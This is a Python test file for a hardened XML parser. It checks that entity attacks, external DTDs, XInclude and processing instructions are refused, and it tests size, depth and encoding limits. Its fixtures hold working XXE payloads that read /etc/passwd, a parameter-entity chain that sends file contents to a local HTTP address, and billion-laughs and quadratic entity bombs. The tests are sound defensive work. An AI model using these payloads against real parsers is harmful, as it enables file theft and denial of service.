"""Safe XML intake: every hostile construct is refused with its specific code."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from edoc_axis.edxml import DEFAULT_LIMITS, XmlLimits, safe_parse
from edoc_axis.errors import EdocError, PayloadTooLarge, XmlForbidden, XmlMalformed

PASSWD = "/etc/passwd"


def _refusal(raw: bytes, limits: XmlLimits = DEFAULT_LIMITS) -> EdocError:
    with pytest.raises(EdocError) as caught:
        safe_parse(raw, limits)
    return caught.value


def _never_leaks(err: EdocError) -> None:
    # Whatever the refusal says, the content of /etc/passwd must not be in it.
    text = f"{err} {err.detail!r} {err.to_problem()!r}"
    assert "root:" not in text
    assert "/bin/" not in text


XXE_FILE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>
<edXML>&xxe;</edXML>""".encode()

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/evil">]>
<edXML>&xxe;</edXML>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE q [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>\n<q>'
    + b"&a;" * 2_000
    + b"</q>"
)

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://127.0.0.1:9/edxml.dtd">
<edXML/>"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [
  <!ENTITY % file SYSTEM "file://{PASSWD}">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>">
  %eval;
  %exfil;
]>
<edXML/>""".encode()

XINCLUDE = f"""<?xml version="1.0"?>
<edXML xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file://{PASSWD}" parse="text"/>
</edXML>""".encode()


@pytest.mark.parametrize(
    ("raw", "needle"),
    [
        (XXE_FILE, "ENTITY"),
        (XXE_NETWORK, "ENTITY"),
        (BILLION_LAUGHS, "ENTITY"),
        (QUADRATIC, "ENTITY"),
        (EXTERNAL_DTD, "external DTD"),
        (PARAMETER_ENTITY, "ENTITY"),
    ],
    ids=["xxe-file", "xxe-network", "billion-laughs", "quadratic", "external-dtd", "param-entity"],
)
def test_doctype_attacks_are_forbidden_and_named(raw: bytes, needle: str) -> None:
    err = _refusal(raw)
    assert isinstance(err, XmlForbidden)
    assert needle in err.detail
    assert "line 2" in err.detail
    _never_leaks(err)


def test_xinclude_is_forbidden_without_reading_the_file() -> None:
    err = _refusal(XINCLUDE)
    assert isinstance(err, XmlForbidden)
    assert err.detail == "XInclude element include at line 3 is forbidden"
    _never_leaks(err)


def test_xinclude_2003_namespace_is_forbidden_too() -> None:
    raw = b'<a><x:include xmlns:x="http://www.w3.org/2003/XInclude" href="x"/></a>'
    assert isinstance(_refusal(raw), XmlForbidden)


@pytest.mark.skipif(not Path(PASSWD).is_file(), reason=f"{PASSWD} absent on this system")
def test_lxml_itself_would_have_read_the_file() -> None:
    """Guards the attack fixtures: an unsafe parser really leaks, ours does not."""
    unsafe = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    leaked = etree.fromstring(XXE_FILE, parser=unsafe)
    assert "root:" in "".join(str(text) for text in leaked.itertext())


@pytest.mark.parametrize(
    ("raw", "detail"),
    [
        (
            b'<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?>\n<a/>',
            "<?xml-stylesheet?> at line 2",
        ),
        (b"<a>\n  <?php echo 1; ?>\n</a>", "processing instruction at line 2"),
        (b"<a/>\n<?trailer x?>", "processing instruction at line 2"),
    ],
    ids=["prolog", "content", "epilog"],
)
def test_processing_instructions_are_forbidden(raw: bytes, detail: str) -> None:
    err = _refusal(raw)
    assert isinstance(err, XmlForbidden)
    assert detail in err.detail


def test_xml_declaration_and_comments_are_fine() -> None:
    root = safe_parse(
        b'<?xml version="1.0" encoding="utf-8"?>\n<!-- note -->\n<a><!-- c --><b/></a>'
    )
    assert root.tag == "a"


def _nested(depth: int) -> bytes:
    return b"<e>" * depth + b"</e>" * depth


def test_depth_at_limit_passes_and_one_more_is_refused() -> None:
    limits = XmlLimits(max_depth=10)
    assert safe_parse(_nested(10), limits).tag == "e"
    err = _refusal(_nested(11), limits)
    assert isinstance(err, XmlForbidden)
    assert "depth limit 10" in err.detail


def test_element_count_at_limit_passes_and_one_more_is_refused() -> None:
    limits = XmlLimits(max_elements=100)
    assert len(safe_parse(b"<r>" + b"<e/>" * 99 + b"</r>", limits)) == 99
    err = _refusal(b"<r>" + b"<e/>" * 100 + b"</r>", limits)
    assert isinstance(err, XmlForbidden)
    assert "limit of 100 elements" in err.detail


def test_size_at_limit_passes_and_one_more_byte_is_refused() -> None:
    raw = b"<a>" + b"x" * 93 + b"</a>"
    assert len(raw) == 100
    assert safe_parse(raw, XmlLimits(max_bytes=100)).text == "x" * 93
    err = _refusal(raw + b" ", XmlLimits(max_bytes=100))
    assert isinstance(err, PayloadTooLarge)
    assert "101 bytes" in err.detail


def test_utf16_is_refused() -> None:
    raw = '<?xml version="1.0" encoding="UTF-16"?><a>é</a>'.encode("utf-16")
    err = _refusal(raw)
    assert isinstance(err, XmlMalformed)
    assert "UTF-16" in err.detail


def test_utf16_without_bom_is_refused() -> None:
    assert isinstance(_refusal("<a/>".encode("utf-16-le")), XmlMalformed)


def test_declared_non_utf8_encoding_is_refused() -> None:
    raw = '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1")
    err = _refusal(raw)
    assert isinstance(err, XmlMalformed)
    assert "'ISO-8859-1'" in err.detail


def test_undeclared_bytes_that_are_not_utf8_are_refused() -> None:
    err = _refusal("<a>é</a>".encode("latin-1"))
    assert isinstance(err, XmlMalformed)
    assert "line 1" in err.detail


def test_utf8_bom_is_accepted() -> None:
    root = safe_parse(b"\xef\xbb\xbf" + '<?xml version="1.0" encoding="UTF-8"?><a>é</a>'.encode())
    assert root.text == "é"


def test_junk_before_the_declaration_is_malformed() -> None:
    err = _refusal(b'1212<?xml version="1.0" encoding="UTF-8"?>\n<edXML/>')
    assert isinstance(err, XmlMalformed)
    assert err.detail.startswith("content before the root element at line 1: b'1212")


def test_declaration_not_at_start_is_malformed() -> None:
    err = _refusal(b'\n<?xml version="1.0"?><a/>')
    assert isinstance(err, XmlMalformed)
    assert "line 2" in err.detail


@pytest.mark.parametrize(
    ("raw", "where"),
    [
        (b"<a>\n<b></c></a>", "line 2"),
        (b"<a>&undefined;</a>", "Entity 'undefined' not defined"),
        (b"<a></a><b/>", "Extra content"),
        (b"", "line"),
        (b"<a>", "line 1"),
    ],
    ids=["mismatch", "undefined-entity", "two-roots", "empty", "unclosed"],
)
def test_not_well_formed_is_malformed_with_position(raw: bytes, where: str) -> None:
    err = _refusal(raw)
    assert isinstance(err, XmlMalformed)
    assert where in err.detail


def test_error_message_is_not_polluted_by_an_earlier_parse() -> None:
    _refusal(b"<a>&first;</a>")
    err = _refusal(b"<a>\n\n<b></c></a>")
    assert "first" not in err.detail
    assert "line 3" in err.detail


def test_parsed_tree_has_no_entity_nodes_and_builtin_refs_are_text() -> None:
    root = safe_parse(b"<a>&amp;&lt;&#65;&#x42;</a>")
    assert root.text == "&<AB"
    assert list(root.iter(etree.Entity)) == []


def test_tree_check_refuses_a_dtd_even_if_the_prolog_walk_missed_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from edoc_axis.edxml import safexml

    monkeypatch.setattr(safexml, "_check_prolog", lambda data: None)
    err = _refusal(XXE_FILE)
    assert isinstance(err, XmlForbidden)
    assert "DOCTYPE" in err.detail
    _never_leaks(err)
